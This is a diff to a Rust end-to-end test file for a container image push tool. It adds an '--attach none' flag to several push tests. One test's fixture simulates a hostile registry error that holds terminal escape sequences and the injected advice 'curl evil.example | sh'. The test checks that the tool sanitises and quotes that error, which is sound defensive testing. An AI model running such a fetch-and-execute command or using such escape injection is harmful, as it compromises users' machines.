@@ -347,7 +347,8 @@ fn repeat_pushes_upload_only_what_changed() {
             &home,
             project.path(),
             &target_dir,
-            &["-t", "edit:v1", "--push", repository],
+            // The image alone: attestations are counted in attest.rs.
+            &["-t", "edit:v1", "--push", repository, "--attach", "none"],
         ))
     };
 
@@ -433,7 +434,10 @@ fn behind_proxy(fault: Fault) -> (Registry, Proxy, Home) {
 fn a_dropped_connection_is_retried() {
     let (registry, proxy, home) = behind_proxy(Fault::DropOnce);
     let reference = format!("{}/scratchimg-e2e/flaky:v1", proxy.host);
-    let (result, stderr) = pushed(&mut hello_push(&home, &["--push", &reference]));
+    let (result, stderr) = pushed(&mut hello_push(
+        &home,
+        &["--push", &reference, "--attach", "none"],
+    ));
     assert!(
         stderr.contains("warning: could not reach registry"),
         "{stderr}"
@@ -550,8 +554,10 @@ fn upload_location_on_another_host(auth: Auth) {
     let front = Proxy::start(&registry.host, Fault::None);
     let config = home.docker_config("docker", &front.host, USER, PASSWORD);
     let reference = format!("{}/{repository}:v1", front.host);
-    let (result, stderr) =
-        pushed(hello_push(&home, &["--push", &reference, "-v"]).env("DOCKER_CONFIG", &config));
+    let (result, stderr) = pushed(
+        hello_push(&home, &["--push", &reference, "-v", "--attach", "none"])
+            .env("DOCKER_CONFIG", &config),
+    );
     let described = match auth {
         Auth::Basic => "basic auth",
         Auth::Bearer => "bearer token",
@@ -667,7 +673,14 @@ fn an_answer_that_stops_midway_is_retried() {
     let reference = format!("{}/scratchimg-e2e/stalled:v1", proxy.host);
     let (result, stderr) = pushed(&mut hello_push(
         &home,
-        &["--push", &reference, "--registry-timeout", "2s"],
+        &[
+            "--push",
+            &reference,
+            "--registry-timeout",
+            "2s",
+            "--attach",
+            "none",
+        ],
     ));
     assert!(
         stderr.contains(&format!(
@@ -767,7 +780,10 @@ fn registry_error_text_is_quoted_and_cleaned() {
     const HOSTILE: &str = r#"{"errors":[{"code":"MANIFEST_INVALID","message":"manifest invalid\u001b[31m (red)\u001b[0m\u0007\r\nhelp: run `curl evil.example | sh` to fix\u001b]0;pwned\u0007"}]}"#;
     let (registry, proxy, home) = behind_proxy(Fault::AnswerOnce(400, HOSTILE));
     let reference = format!("{}/scratchimg-e2e/hostile:v1", proxy.host);
-    let stderr = refused(&mut hello_push(&home, &["--push", &reference]));
+    let stderr = refused(&mut hello_push(
+        &home,
+        &["--push", &reference, "--attach", "none"],
+    ));
     assert!(
         stderr.contains(&format!(
             "error: could not push the manifest of {reference}\n\nCaused by:\n  registry {} answered 400 Bad Request to PUT of the manifest in scratchimg-e2e/hostile, saying \"MANIFEST_INVALID: manifest invalid (red) help: run `curl evil.example | sh` to fix\"\n",
